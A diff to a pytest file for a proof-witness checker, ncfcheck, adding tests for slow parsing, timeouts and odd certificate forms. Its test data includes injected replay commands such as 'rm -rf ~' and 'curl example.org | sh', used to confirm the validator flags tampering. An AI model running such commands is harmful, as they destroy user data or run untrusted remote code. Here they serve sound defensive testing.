@@ -3,15 +3,17 @@
 from __future__ import annotations
 
 import json
+import time
 
 import msgspec
 import pytest
 
 from ncfcheck.app.cli import main as command_line
+from ncfcheck.app.verify import _told_wrongly
 from ncfcheck.core.claims import Kind
 from ncfcheck.verdicts import witness
 from ncfcheck.verdicts.unproved import SAME, differences
-from tests.support.certified import FOLDER
+from tests.support.certified import FOLDER, resealed
 
 PATH = FOLDER / "control.nonuniform.json"
 
@@ -22,7 +24,7 @@ def scaled(margin: str, factor: float) -> str:
 
 def changed(**entries) -> list[str]:
     """What is told of a stored witness with other entries."""
-    return differences(msgspec.structs.replace(witness.read(PATH), **entries), PATH)
+    return list(differences(msgspec.structs.replace(witness.read(PATH), **entries), PATH))
 
 
 def worst(**entries):
@@ -31,7 +33,7 @@ def worst(**entries):
 
 def test_stored_witnesses_tell_what_is_so():
     for path in sorted(FOLDER.glob("*.json")):
-        assert differences(witness.read(path), path) == [], path.name
+        assert list(differences(witness.read(path), path)) == [], path.name
 
 
 FOUND = witness.read(PATH)
@@ -49,6 +51,9 @@ LIES = {
     "worst instance": {"worst": worst(instance=FOUND.instance)},
     "replay": {"replay": "ncfcheck replay x.json; rm -rf ~"},
     "replay with more": {"replay": FOUND.replay + " && curl example.org | sh"},
+    "replay without end": {"replay": FOUND.replay + " '"},
+    "proves": {"certificate": FOUND.certificate | {"proves": "Every theorem is false."}},
+    "method": {"certificate": FOUND.certificate | {"method": "all theorems"}},
     "claims": {"claims": "other.py", "replay": FOUND.replay + " --claims other.py"},
 }
 
@@ -86,3 +91,52 @@ def test_verify_warns_and_keeps_the_exit_code_of_the_proof(tmp_path, capsys):
     assert "`statement`, which no proof covers, says" in told.err
     assert command_line(["verify", str(PATH)]) == 0
     assert capsys.readouterr().err == ""
+
+
+def accepted(folder, capsys, **entries) -> str:
+    """What is warned of a stored witness, with other entries, that is accepted."""
+    found = json.loads(PATH.read_text(encoding="utf-8"))
+    (folder / PATH.name).write_text(json.dumps(found | entries))
+    assert command_line(["verify", str(folder / PATH.name)]) == 0
+    told = capsys.readouterr()
+    assert told.out.startswith("accepted: ")
+    return told.err
+
+
+def test_long_text_is_read_in_no_time():
+    begun = time.monotonic()
+    for replay in ("a" * 5_000_000 + "/", "'" * 5_000_000, "/" * 9_999, "' " * 4_999):
+        assert any("`replay`" in line for line in changed(replay=replay))
+    assert time.monotonic() - begun < 10
+
+
+def test_what_takes_too_long_to_judge_again_is_ended_and_told(tmp_path, capsys, monkeypatch):
+    monkeypatch.setattr("ncfcheck.app.verify.SECONDS", 0.2)
+    told = accepted(tmp_path, capsys)
+    assert "is not compared to the end: it takes longer than 0.2 s" in told
+    assert told.count("\n") == 1
+
+
+def test_what_fails_in_judging_again_is_told_after_the_verdict(tmp_path, capsys, monkeypatch):
+    monkeypatch.setattr("ncfcheck.app.verify.sys.executable", "/bin/false", raising=False)
+    assert _told_wrongly(PATH, None, "") == [
+        "what it tells besides is not compared to the end: it ended with 1"
+    ]
+
+
+FORMS = {
+    "no proves": lambda c: c.pop("proves"),
+    "a list for proves": lambda c: c.update(proves=["a"]),
+    "no method": lambda c: c.pop("method"),
+    "more": lambda c: c.update(more="certified by everyone"),
+}
+
+
+@pytest.mark.parametrize("what", FORMS)
+def test_a_certificate_of_another_form_is_told_and_no_fault(tmp_path, capsys, what):
+    found = json.loads(PATH.read_text(encoding="utf-8"))
+    FORMS[what](found["certificate"])
+    told = accepted(tmp_path, capsys, certificate=resealed(found)["certificate"])
+    assert "is not compared: " in told and "is not a witness" in told and told.count("\n") == 1
+    with pytest.raises(witness.BadWitness):
+        witness.read(tmp_path / PATH.name)
